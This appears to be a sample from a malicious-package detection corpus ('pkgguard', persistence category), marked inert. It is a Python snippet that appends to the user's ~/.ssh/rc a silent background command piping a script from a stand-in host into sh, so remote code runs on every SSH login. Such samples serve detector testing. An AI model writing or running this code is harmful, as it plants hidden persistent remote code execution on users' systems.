# pkgguard corpus 526 (persistence), modelled on [linux-persistence]; inert, never run.
import os

rc = os.path.join(os.path.expanduser("~"), ".ssh", "rc")
with open(rc, "a") as fh:
    fh.write("(curl -fsS https://ops-hooks.example/s.sh | sh) >/dev/null 2>&1 &\n")
